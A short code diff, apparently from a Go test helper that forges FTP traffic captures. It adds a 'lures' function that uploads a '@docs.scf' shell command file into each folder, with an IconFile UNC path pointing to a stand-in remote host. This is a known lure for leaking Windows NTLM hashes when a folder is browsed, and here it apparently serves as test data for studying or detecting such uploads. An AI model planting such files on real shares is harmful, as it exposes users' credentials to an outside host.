@@ -290,3 +290,12 @@ func changedPackets(client, server string, change func(frame []byte) []byte) fun
 		}
 	}
 }
+
+// lures stores the same file with an icon at another host in each folder.
+func lures(folders ...string) func(*forge.Capture) {
+	var files [][2]string
+	for _, folder := range folders {
+		files = append(files, [2]string{"STOR /" + folder + "/@docs.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.66\\x\\a.ico\r\n"})
+	}
+	return moves(files...)
+}
